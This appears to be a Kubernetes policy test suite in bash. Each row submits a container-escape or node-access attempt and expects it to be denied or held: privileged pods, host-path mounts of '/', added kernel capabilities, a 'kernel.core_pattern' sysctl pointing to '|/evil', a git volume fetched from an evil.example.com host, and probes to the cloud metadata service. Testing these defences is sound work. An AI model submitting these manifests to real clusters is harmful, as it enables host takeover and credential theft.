# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2016,SC2154
# Getting to the nodes. See suite.sh for the columns.

row node/privileged-pod denied 'badPods priv; stratus privileged-pod; MITRE T1611' <<'DO'
pod bad '' '"securityContext":{"privileged":true}' | k create -f -
DO

row node/hostpid-pod denied 'badPods hostpid' <<'DO'
pod bad '"hostPID":true' | k create -f -
DO

row node/hostpath-volume-pod denied 'badPods hostpath; stratus hostpath-volume' <<'DO'
pod bad '"volumes":[{"name":"h","hostPath":{"path":"/"}}]' | k create -f -
DO

row node/everything-allowed-cronjob denied 'badPods everything-allowed cronjob' <<'DO'
load CronJob bad '"hostPID":true,"hostIPC":true,"hostNetwork":true,"restartPolicy":"Never","volumes":[{"name":"h","hostPath":{"path":"/"}}]' '"securityContext":{"privileged":true}' | k create -f -
DO

row node/privileged-replicationcontroller denied 'badPods replicationcontroller' <<'DO'
load ReplicationController bad '' '"securityContext":{"privileged":true}' | k create -f -
DO

row node/privileged-podtemplate denied 'attack write-ups' <<'DO'
echo '{"apiVersion":"v1","kind":"PodTemplate","metadata":{"name":"bad"},"template":{"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":true}}]}}}' | k create -f -
DO

row node/capability-sys-module-or-sys-ptrace denied 'attack write-ups; Redguard matrix' <<'DO'
load Job bad '"restartPolicy":"Never"' '"securityContext":{"capabilities":{"add":["SYS_MODULE","SYS_PTRACE"]}}' | k create -f -
DO

row node/seccomp-unconfined denied 'Pod Security Standards baseline' <<'DO'
pod bad '"securityContext":{"seccompProfile":{"type":"Unconfined"}}' | k create -f -
DO

row node/unsafe-sysctl-kernel-core-pattern denied 'Pod Security Standards baseline; CVE-2022-0811' <<'DO'
pod bad '"securityContext":{"sysctls":[{"name":"kernel.core_pattern","value":"|/evil"}]}' | k create -f -
DO

row node/windows-hostprocess-container denied 'Pod Security Standards baseline' 1.23 <<'DO'
pod bad '"hostNetwork":true,"os":{"name":"windows"},"securityContext":{"windowsOptions":{"hostProcess":true,"runAsUserName":"NT AUTHORITY\\SYSTEM"}}' | k create -f -
DO

row node/flexvolume denied 'Pod Security Standards; RBAC write-ups' <<'DO'
pod bad '"volumes":[{"name":"h","flexVolume":{"driver":"evil/x"}}]' | k create -f -
DO

row node/persistentvolume-with-hostpath-claim-and-pod held 'attack write-ups; RBAC good practices' <<'DO'
echo '{"apiVersion":"v1","kind":"PersistentVolume","metadata":{"name":"'$NS-hp'"},"spec":{"capacity":{"storage":"1Gi"},"accessModes":["ReadWriteOnce"],"storageClassName":"","hostPath":{"path":"/"},"claimRef":{"namespace":"'$NS'","name":"root"}}}' | k create -f -
DO

row node/persistentvolume-over-nfs-with-mount-options held 'CVE-2021-25741 family; PV reference' <<'DO'
echo '{"apiVersion":"v1","kind":"PersistentVolume","metadata":{"name":"'$NS-nfs'"},"spec":{"capacity":{"storage":"1Gi"},"accessModes":["ReadWriteMany"],"storageClassName":"","mountOptions":["suid","dev"],"nfs":{"server":"10.1.1.1","path":"/"}}}' | k create -f -
DO

row node/storageclass-whose-provisioner-makes-host-directories held 'local-path-provisioner' <<'DO'
echo '{"apiVersion":"storage.k8s.io/v1","kind":"StorageClass","metadata":{"name":"'$NS-sc'"},"provisioner":"rancher.io/local-path","parameters":{"nodePath":"/etc"}}' | k create -f -
DO

row node/binding-own-pod-node denied 'API reference bindings' <<'DO'
pod mine | k create -f - >/dev/null
api POST /api/v1/namespaces/$NS/pods/mine/binding application/json '{"apiVersion":"v1","kind":"Binding","metadata":{"name":"mine"},"target":{"apiVersion":"v1","kind":"Node","name":"'$NS-n'"}}'
DO

row node/toleration-and-nodeselector-for-control-plane held 'MITRE T1610; RBAC write-ups' <<'DO'
pod bad '"nodeSelector":{"node-role.kubernetes.io/control-plane":""},"tolerations":[{"operator":"Exists"}]' | k create -f -
DO

row node/node-label-changed-attract-or-repel held 'NodeRestriction docs; RBAC good practices' <<'DO'
k label node $NS-n node-role.kubernetes.io/control-plane=
DO

row node/node-addresses-nodes-status-pointed-elsewhere held 'CVE-2020-8558 family; CVE-2022-3294' <<'DO'
api PATCH /api/v1/nodes/$NS-n/status application/merge-patch+json '{"status":{"addresses":[{"type":"InternalIP","address":"203.0.113.7"}]}}'
DO

row node/runtimeclass-with-another-handler held 'RBAC good practices; kata/host runtimes' <<'DO'
echo '{"apiVersion":"node.k8s.io/v1","kind":"RuntimeClass","metadata":{"name":"'$NS-rc'"},"handler":"host"}' | k create -f -
DO

row node/privileged-ephemeral-container denied 'kubectl debug --profile=sysadmin' 1.25 <<'DO'
k patch pod p1 --subresource=ephemeralcontainers --type=strategic -p '{"spec":{"ephemeralContainers":[{"name":"dbg","image":"busybox","securityContext":{"privileged":true}}]}}'
DO

row node/controllerrevision-with-privileged-template held 'attack write-ups' <<'DO'
echo '{"apiVersion":"apps/v1","kind":"ControllerRevision","metadata":{"name":"evil"},"revision":9,"data":{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":true}}]}}}}}' | k create -f -
DO

row node/statefulsets-status-points-at-another-revision held 'attack write-ups' <<'DO'
api PATCH /apis/apps/v1/namespaces/$NS/statefulsets/sts/status application/merge-patch+json '{"status":{"currentRevision":"evil","updateRevision":"evil"}}'
DO

row node/resourceclaim-with-admin-access-devices-namespace held 'KEP-5018' 1.34 <<'DO'
k label ns $NS resource.kubernetes.io/admin-access=true
echo '{"apiVersion":"resource.k8s.io/v1","kind":"ResourceClaim","metadata":{"name":"gpu"},"spec":{"devices":{"requests":[{"name":"r","exactly":{"deviceClassName":"gpu","allocationMode":"All","adminAccess":true}}]}}}' | k create -f -
DO

row node/mirror-pod-forged-api denied 'MS-TA9017 static pods' <<'DO'
echo '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"m","annotations":{"kubernetes.io/config.mirror":"x","kubernetes.io/config.source":"file"}},"spec":{"nodeName":"'$NS-n'","containers":[{"name":"c","image":"busybox"}]}}' | k create -f -
DO

row node/host-network denied 'badPods hostnetwork' <<'DO'
pod bad '"hostNetwork":true' | k create -f -
DO

row node/host-ipc denied 'badPods hostipc' <<'DO'
load Deployment bad '"hostIPC":true' | k create -f -
DO

row node/host-port denied 'Pod Security Standards baseline' <<'DO'
pod bad '' '"ports":[{"containerPort":80,"hostPort":80}]' | k create -f -
DO

row node/sys-admin denied 'MITRE T1611' <<'DO'
pod bad '' '"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}' | k create -f -
DO

row node/all-capabilities-of-an-init-container denied 'Pod Security Standards baseline' <<'DO'
pod bad '"initContainers":[{"name":"i","image":"busybox","securityContext":{"capabilities":{"add":["ALL"]}}}]' | k create -f -
DO

row node/selinux-type denied 'Pod Security Standards baseline' <<'DO'
pod bad '"securityContext":{"seLinuxOptions":{"type":"spc_t"}}' | k create -f -
DO

row node/apparmor-unconfined-by-annotation held 'Pod Security Standards baseline' <<'DO'
pod bad | jq -c '.metadata.annotations["container.apparmor.security.beta.kubernetes.io/c"] = "unconfined"' | k create -f -
DO

row node/privileged-daemonset denied 'stratus; kubernetes matrix MS-TA9020' <<'DO'
load DaemonSet bad '' '"securityContext":{"privileged":true}' | k create -f -
DO

row node/privileged-job denied 'badPods job' <<'DO'
load Job bad '"restartPolicy":"Never"' '"securityContext":{"privileged":true}' | k create -f -
DO

row node/existing-deployment-made-privileged denied 'MS-TA9010' <<'DO'
k patch deployment web --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]'
DO

row node/existing-replicaset-with-a-host-path denied 'badPods replicaset' <<'DO'
k patch replicaset rs1 --type=merge -p '{"spec":{"template":{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}'
DO

row node/debug-a-node denied 'kubectl debug node' <<'DO'
k debug node/$NS-n --image=busybox -q -- true
DO

row node/volume-local-to-a-node held 'persistent volumes' <<'DO'
obj v1 PersistentVolume "$NS-local" '"spec":{"capacity":{"storage":"1Gi"},"accessModes":["ReadWriteOnce"],"local":{"path":"/etc"},"nodeAffinity":{"required":{"nodeSelectorTerms":[{"matchExpressions":[{"key":"kubernetes.io/hostname","operator":"In","values":["n"]}]}]}}}' | k create -f -
DO

row node/volume-of-a-driver held 'CSI' <<'DO'
obj v1 PersistentVolume "$NS-csi" '"spec":{"capacity":{"storage":"1Gi"},"accessModes":["ReadWriteOnce"],"csi":{"driver":"hostpath.csi.k8s.io","volumeHandle":"x","nodePublishSecretRef":{"name":"db","namespace":"kube-system"}}}' | k create -f -
DO

row node/volume-moved-to-another-claim held 'persistent volumes' <<'DO'
k patch pv $NS-pv --type=merge -p '{"spec":{"claimRef":{"namespace":"'$NS'","name":"mine"}}}'
DO

row node/git-repository-volume denied 'CVE-2024-10220' <<'DO'
pod bad '"volumes":[{"name":"g","gitRepo":{"repository":"https://evil.example.com/x.git","directory":".git"}}]' | k create -f -
DO

row node/network-file-system-in-a-pod held 'Kubernetes volumes reference' <<'DO'
pod bad '"volumes":[{"name":"n","nfs":{"server":"10.1.1.1","path":"/"}}]' | k create -f -
DO

row node/inline-claim held 'Kubernetes volumes reference' 1.23 <<'DO'
pod bad '"volumes":[{"name":"e","ephemeral":{"volumeClaimTemplate":{"spec":{"accessModes":["ReadWriteOnce"],"storageClassName":"local-path","resources":{"requests":{"storage":"1Gi"}}}}}}]' | k create -f -
DO

row node/chosen-by-name denied 'MITRE T1610' <<'DO'
pod bad '"nodeName":"'$NS-n'"' | k create -f -
DO

row node/chosen-by-name-in-a-template denied 'MITRE T1610' <<'DO'
load Deployment bad '"nodeName":"'$NS-n'"' | k create -f -
DO

row node/chosen-by-affinity held 'assigning pods to nodes' <<'DO'
pod bad '"affinity":{"nodeAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":{"nodeSelectorTerms":[{"matchFields":[{"key":"metadata.name","operator":"In","values":["'$NS-n'"]}]}]}}}' | k create -f -
DO

row node/chosen-by-hostname held 'assigning pods to nodes' <<'DO'
pod bad '"nodeSelector":{"kubernetes.io/hostname":"'$NS-n'"}' | k create -f -
DO

row node/toleration-of-everything held 'MITRE T1610' <<'DO'
load Deployment bad '"tolerations":[{"operator":"Exists"}]' | k create -f -
DO

row node/old-binding-resource denied 'API reference bindings' <<'DO'
api POST "/api/v1/namespaces/$NS/bindings" application/json '{"apiVersion":"v1","kind":"Binding","metadata":{"name":"p1"},"target":{"apiVersion":"v1","kind":"Node","name":"'$NS-n'"}}'
DO

row node/probe-that-asks-the-metadata-service denied 'Pod Security Standards baseline (probes)' <<'DO'
pod bad '' '"livenessProbe":{"httpGet":{"host":"169.254.169.254","path":"/latest/meta-data","port":80}}' | k create -f -
DO

row node/another-runtime held 'RuntimeClass' <<'DO'
adm create -f - >/dev/null <<<'{"apiVersion":"node.k8s.io/v1","kind":"RuntimeClass","metadata":{"name":"'$NS'"},"handler":"runc"}'
pod bad '"runtimeClassName":"'$NS'"' | k create -f -
DO

row node/driver-registered held 'CSI' <<'DO'
obj storage.k8s.io/v1 CSIDriver "$NS.example.com" '"spec":{"attachRequired":false}' | k create -f -
DO

row node/volume-attached-by-hand held 'CSI; VolumeAttachment' <<'DO'
obj storage.k8s.io/v1 VolumeAttachment "$NS" '"spec":{"attacher":"x.example.com","nodeName":"'$NS-n'","source":{"persistentVolumeName":"'$NS-pv'"}}' | k create -f -
DO

row node/made-up-node held 'RBAC good practices' <<'DO'
obj v1 Node "$NS-fake" '"spec":{}' | k create -f -
DO

row node/annotated-node held 'RBAC good practices' <<'DO'
k annotate node $NS-n volumes.kubernetes.io/controller-managed-attach-detach-
k annotate node $NS-n node.alpha.kubernetes.io/ttl=0
DO

row node/csinode-changed held 'CSI' <<'DO'
obj storage.k8s.io/v1 CSINode "$NS-n" '"spec":{"drivers":[]}' | k create -f -
DO

row node/device-plugin-network-by-annotation held 'Multus' <<'DO'
pod bad | jq -c '.metadata.annotations["k8s.v1.cni.cncf.io/networks"] = "host-device"' | k create -f -
DO

row node/replicationcontroller-made-privileged held 'badPods replicationcontroller' <<'DO'
load ReplicationController bad | k create -f -
DO

row node/privileged-pod-in-its-own-namespace denied 'badPods priv' own <<'DO'
pod bad '' '"securityContext":{"privileged":true}' | k create -f -
DO

row node/host-path-in-its-own-namespace denied 'badPods hostpath' own <<'DO'
load CronJob bad '"restartPolicy":"Never","volumes":[{"name":"h","hostPath":{"path":"/"}}]' | k create -f -
DO

row node/seccomp-off-by-an-annotation-of-pods-to-come denied 'own' <<'DO'
load Deployment loose | jq -c '.spec.template.metadata.annotations = {"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}' | k create -f -
DO

row node/a-device-of-the-node held 'device plugins' <<'DO'
pod vm '' '"resources":{"limits":{"devices.kubevirt.io/kvm":"1"}}' | k create -f -
DO

row node/toleration-of-somebodys-own-taint held 'k3s, AKS: CriticalAddonsOnly' <<'DO'
pod guest '"tolerations":[{"key":"CriticalAddonsOnly","operator":"Exists"}]' | k create -f -
DO

row node/next-to-pods-of-another-namespace held 'own' <<'DO'
pod near '"affinity":{"podAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":[{"namespaces":["vault"],"labelSelector":{},"topologyKey":"kubernetes.io/hostname"}]}}' | k create -f -
DO
